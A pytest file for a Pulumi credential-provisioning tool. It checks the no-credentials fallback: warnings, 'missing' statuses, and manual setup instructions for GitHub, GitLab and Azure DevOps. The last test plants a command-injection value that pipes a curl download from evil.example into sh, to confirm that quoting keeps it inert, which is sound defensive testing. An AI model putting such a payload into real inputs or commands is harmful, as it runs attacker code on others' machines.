"""The real program under mocks with no provider credentials at all: nothing is provisioned, nothing
fails, every slot gets instructions."""

from __future__ import annotations

import shlex

import pytest

from scm_access.declarations.loader import load_project
from scm_access.provision.program import RESERVED_OUTPUTS
from tests.provision.harness import FIXTURE_PROJECT, Run, run_program

COMPONENT = "scm-access:index:Connection"


@pytest.fixture(scope="module")
def run() -> Run:
    return run_program({})


def outputs(run: Run) -> dict[str, dict]:
    return {k: v[0] for k, v in run.outputs.items() if k not in RESERVED_OUTPUTS}


def test_components_are_still_created_for_every_connection(run):
    assert {r.name for r in run.of_type(COMPONENT)} == {c.name for c in load_project(FIXTURE_PROJECT).connections}


def test_no_provider_and_no_credential_resource_is_created(run):
    assert [r.typ for r in run.resources if r.typ not in (COMPONENT, "pulumi:pulumi:StackReference")] == []


def test_one_warning_per_platform_says_how_to_enable_it(run):
    assert len(run.warnings) == 3
    hints = {"GITHUB_TOKEN": "github", "GITLAB_TOKEN": "gitlab", "AZDO_PERSONAL_ACCESS_TOKEN": "azure_devops"}
    for variable, platform in hints.items():
        (warning,) = [w for w in run.warnings if f"on {platform}:" in w]
        assert variable in warning and "pulumi config set --secret" in warning


def test_azure_devops_warning_names_the_organization_url_too(run):
    (warning,) = [w for w in run.warnings if "on azure_devops:" in w]
    assert "AZDO_ORG_SERVICE_URL" in warning and "azureDevOpsOrgServiceUrl" in warning


def test_org_managed_slots_are_missing_with_the_reason(run):
    docs = outputs(run)["docs-publisher"]["findings"]
    assert [f["status"] for f in docs] == ["missing"]
    assert docs[0]["reason"].startswith("not provisioned: no GitLab credentials for this stack")


def test_org_managed_slots_fall_back_to_manual_instructions_with_the_creation_page(run):
    markdown = outputs(run)["docs-publisher"]["instructions"]
    assert "GitLab group access token for the service identity docs-ci (not provisioned)" in markdown
    assert "<https://gitlab.com/groups/acme/platform/-/settings/access_tokens>" in markdown
    assert "**Select a role** **Developer**" in markdown
    assert "then run `pulumi up`" in markdown


def test_deploy_key_fallback_explains_key_generation_and_the_deploy_keys_page(run):
    markdown = outputs(run)["release-config-sync"]["instructions"]
    assert "ssh-keygen -t ed25519" in markdown
    assert "<https://github.com/acme/platform-config/settings/keys/new>" in markdown
    assert "tick **Allow write access**" in markdown


def test_service_principal_fallback_points_at_organization_users(run):
    markdown = outputs(run)["azure-pipelines-deploy"]["instructions"]
    assert "<https://dev.azure.com/acme/_settings/users>" in markdown
    assert "7f0c2a51-3a3e-4c0e-9a57-2d8f3c1b9e44" in markdown
    assert "Workload identity federation" in markdown


def test_personal_token_instructions_are_unchanged(run):
    link = "<https://github.com/settings/tokens/new?scopes=repo,workflow,write:packages"
    assert link in outputs(run)["stackspot"]["instructions"]


def test_credentials_output_is_an_empty_secret(run):
    assert run.outputs["credentials"] == ({}, True, True)


def test_summary_reports_every_platform_skipped(run):
    summary = run.value("summary")
    assert summary["provisioned_slots"] == 0 and summary["resources"] == 0
    assert set(summary["status"]) == {"missing"}
    assert all(state.startswith("skipped: no ") for state in summary["platforms"].values())


def test_deploy_key_fallback_command_keeps_declared_text_as_one_argument(tmp_path):
    """A name written to break out of the command is one argument to ssh-keygen, not a command."""
    hostile = "CI'; curl -s https://evil.example/x | sh; echo '"
    (tmp_path / "connections").mkdir()
    (tmp_path / "connections" / "hostile.py").write_text(
        "from scm_access.declarations import Connection, GitHubAccess, ServiceIdentity\n"
        "CONNECTION = Connection(\n"
        f"    name='sync', integration={hostile!r}, owner='team', purpose='Pushes release bumps.',\n"
        "    access=[GitHubAccess(scopes=['contents:write'], org='acme', repositories=['platform-config'],\n"
        "                         holder=ServiceIdentity(service='release-workflow'),\n"
        "                         kind='github_deploy_key')],\n"
        ")\n"
    )
    run = run_program({}, config={"declarations": str(tmp_path)})
    markdown = run.value("sync")["instructions"]
    (line,) = [line for line in markdown.splitlines() if "ssh-keygen" in line]
    printed = line[line.index("`") + 1 : line.rindex("`")]
    assert shlex.split(printed) == [
        "ssh-keygen", "-t", "ed25519", "-N", "", "-C", f"{hostile} (sync)", "-f", "platform-config-deploy-key"
    ]
